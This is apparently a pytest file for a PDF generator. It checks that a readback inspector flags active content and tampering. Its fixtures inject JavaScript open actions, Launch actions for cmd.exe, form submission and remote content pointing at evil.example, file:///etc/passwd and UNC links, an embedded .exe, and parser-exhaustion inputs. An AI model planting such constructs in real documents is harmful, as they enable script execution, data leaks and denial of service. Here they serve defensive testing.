"""Whatever is put into a finished PDF that could run, fetch or send something is named."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path
from time import monotonic
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from editions import rich_edition
from hwrender.edition.model import EditionKind
from hwrender.formats.pdf.properties import STANDARDS
from hwrender.formats.pdf.readback import opened
from hwrender.formats.pdf.readback.checks import run_checks_of_published
from hwrender.formats.pdf.readback.inert import foreign_parts, inert
from hwrender.formats.pdf.writing import make_pdf
from reports import CASES, REPORTS, edition_of

SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
ELSEWHERE = Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0]))


@cache
def rich_pdf() -> bytes:
    return make_pdf(rich_edition())


def acting_in(content: bytes, folder: Path) -> str:
    path = folder / "report.pdf"
    path.write_bytes(content)
    with opened(path, "en-GB") as finished:
        return inert(finished)


def changed(change: Callable[[pikepdf.Pdf], Any], **saving: Any) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(rich_pdf())) as pdf:
        change(pdf)
        pdf.save(out, **saving)
    return out.getvalue()


def first_link(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return next(each for page in pdf.pages for each in page.get("/Annots", []) if "/A" in each)


def annotation(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
    def add(pdf: pikepdf.Pdf) -> None:
        made = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries))
        pdf.pages[0].Annots = Array([*pdf.pages[0].get("/Annots", []), made])

    return add


def attach(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["a.exe"] = b"MZ"


def in_root(name: str, value: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda pdf: setattr(pdf.Root, name, value)


def in_page(name: str, value: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda pdf: setattr(pdf.pages[0].obj, name, value)


def in_link(value: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda pdf: setattr(first_link(pdf), "A", value)


def in_bookmark(value: Any) -> Callable[[pikepdf.Pdf], None]:
    return lambda pdf: setattr(pdf.Root.Outlines.First, "A", value)


def from_another_file(pdf: pikepdf.Pdf) -> None:
    content = pdf.make_stream(b"")
    content.F = String("http://evil.example/a")
    pdf.pages[0].Contents = content


def next_to_a_link(pdf: pikepdf.Pdf) -> None:
    first_link(pdf).A.Next = SCRIPT


def a_new_type(pdf: pikepdf.Pdf) -> None:
    pdf.Root.StructTreeRoot.RoleMap["/Launch"] = Name.P


@pytest.mark.parametrize("standard", STANDARDS)
def test_every_pdf_that_we_make_holds_only_what_we_make(standard: str, tmp_path: Path) -> None:
    editions = [rich_edition()]
    editions += [edition_of(source, EditionKind.EASY) for source in (*REPORTS, *CASES[:12])]
    for edition in editions:
        assert acting_in(make_pdf(edition, STANDARDS[standard]), tmp_path) == "", edition.publication.title


def test_a_pdf_that_another_program_has_saved_acts_no_more_than_before(tmp_path: Path) -> None:
    modes = pikepdf.ObjectStreamMode
    for mode in (modes.generate, modes.disable, modes.preserve):
        assert acting_in(changed(lambda pdf: None, object_stream_mode=mode), tmp_path) == ""


ACTING: dict[str, tuple[Callable[[pikepdf.Pdf], Any], str]] = {
    "when a page opens": (in_page("AA", Dictionary(O=SCRIPT)), "/AA (/O)"),
    "when a page closes": (in_page("AA", Dictionary(C=ELSEWHERE)), "/AA (/C)"),
    "when the file opens": (in_root("OpenAction", SCRIPT), "/OpenAction (/JavaScript)"),
    "when the file is closed": (in_root("AA", Dictionary(WC=SCRIPT)), "/AA (/WC)"),
    "a link that runs a script": (in_link(SCRIPT), "/JS"),
    "a link that starts a program": (
        in_link(Dictionary(S=Name.Launch, F=String("cmd.exe"))), "it leads to another file"
    ),
    "a link to another file": (in_link(ELSEWHERE), "do not write: /GoToR"),
    "a link into an attached file": (in_link(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C))), "/GoToE"),
    "a link that sends a form": (
        in_link(Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))), "/SubmitForm"
    ),
    "a link by name": (in_link(Dictionary(S=Name.Named, N=Name.Print)), "/Named"),
    "a link to a file": (in_link(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))), "file:///etc"),
    "a link to a script": (in_link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))), "javascript:"),
    "a link to a shared disk": (in_link(Dictionary(S=Name.URI, URI=String(r"\\evil\a"))), "evil"),
    "after a link": (next_to_a_link, "/JS"),
    "a bookmark that runs a script": (in_bookmark(SCRIPT), "/JS"),
    "a bookmark that starts a program": (in_bookmark(Dictionary(S=Name.Launch)), "/Launch"),
    "a script by name": (
        in_root("Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT])))), "/JavaScript"
    ),
    "an attached file": (attach, "/Names (/EmbeddedFiles)"),
    "a form": (in_root("AcroForm", Dictionary(XFA=String("<xdp/>"))), "/AcroForm (/XFA)"),
    "a collection": (in_root("Collection", Dictionary()), "/Collection"),
    "a field": (annotation(Subtype=Name.Widget, AA=Dictionary(K=SCRIPT)), "/Widget"),
    "a film": (annotation(Subtype=Name.RichMedia), "/RichMedia"),
    "a file behind a pin": (annotation(Subtype=Name.FileAttachment), "/FileAttachment"),
    "an object in three dimensions": (annotation(Subtype=Name("/3D")), "/3D"),
    "a link of its own": (annotation(Subtype=Name.Link, PA=SCRIPT), "/PA (/JavaScript)"),
    "content from another file": (from_another_file, "it leads to another file"),
    "an entry that nobody knows": (in_root("Brand", Name.New), "/Brand"),
    "a type that is an action": (a_new_type, "/Launch"),
}  # fmt: skip


@pytest.mark.parametrize("packed", [True, False], ids=["in object streams", "plain"])
@pytest.mark.parametrize("name", ACTING)
def test_what_acts_is_named_wherever_it_stands(name: str, packed: bool, tmp_path: Path) -> None:
    change, named = ACTING[name]
    modes = pikepdf.ObjectStreamMode
    content = changed(change, object_stream_mode=modes.generate if packed else modes.disable)
    path = tmp_path / "report.pdf"
    path.write_bytes(content)
    with pikepdf.open(path) as pdf:
        found = foreign_parts(pdf)
    assert any(named in each for each in found), found
    assert acting_in(content, tmp_path)


def test_a_pdf_that_is_locked_is_named(tmp_path: Path) -> None:
    locked = changed(lambda pdf: None, encryption=pikepdf.Encryption(owner="a", user=""))
    assert acting_in(locked, tmp_path) == "it is encrypted"
    path = tmp_path / "report.pdf"
    path.write_bytes(changed(lambda pdf: None, encryption=pikepdf.Encryption(owner="a", user="b")))
    assert not run_checks_of_published(path, "en-GB")[0].passed


LATER = b"1 0 obj\n<<>>\nendobj\nxref\n0 0\ntrailer\n<</Prev 9>>\nstartxref\n9\n%%EOF\n"


@pytest.mark.parametrize(
    ("content", "named"),
    [
        (rich_pdf() + LATER, "a later version"),
        (rich_pdf() + b"%%EOF", "a later version"),
        (rich_pdf() + b"<script>1</script>", "something stands after its end"),
        (rich_pdf() + zlib.compress(b"words"), "something stands after its end"),
        (b"MZ\n" + rich_pdf(), "something stands before it"),
    ],
)
def test_what_was_added_to_the_file_is_named(content: bytes, named: str, tmp_path: Path) -> None:
    path = tmp_path / "report.pdf"
    path.write_bytes(content)
    details = [check.detail for check in run_checks_of_published(path, "en-GB") if not check.passed]
    assert any(named in detail for detail in details), details


def big_content(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Contents = pdf.make_stream(b"q Q " * 2_000_000)


def endless_codes(pdf: pikepdf.Pdf) -> None:
    font = next(iter(pdf.pages[0].resources.Font.values()))
    font.ToUnicode = pdf.make_stream(b"1 beginbfrange <0000> <FFFFFFFF> <0041> endbfrange")


def codes_again_and_again(pdf: pikepdf.Pdf) -> None:
    font = next(iter(pdf.pages[0].resources.Font.values()))
    font.ToUnicode = pdf.make_stream(b"1 beginbfrange <0000> <FFFF> <0041> endbfrange " * 9000)


def branches_of_branches(pdf: pikepdf.Pdf) -> None:
    node = pdf.make_indirect(Dictionary(Nums=Array([])))
    for _ in range(40):
        node = pdf.make_indirect(Dictionary(Kids=Array([node, node])))
    pdf.Root.StructTreeRoot.ParentTree = node


def the_same_page_over_and_over(pdf: pikepdf.Pdf) -> None:
    page = pdf.pages[0].obj
    for _ in range(3100):
        pdf.Root.Pages.Kids.append(pdf.make_indirect(Dictionary(page)))


@pytest.mark.parametrize(
    "change",
    [big_content, endless_codes, codes_again_and_again, branches_of_branches, the_same_page_over_and_over],
)
def test_a_pdf_that_would_be_read_for_ever_is_refused_soon(
    change: Callable[[pikepdf.Pdf], None], tmp_path: Path
) -> None:
    path = tmp_path / "report.pdf"
    path.write_bytes(changed(change))
    started = monotonic()
    assert not all(check.passed for check in run_checks_of_published(path, "en-GB"))
    assert monotonic() - started < 10
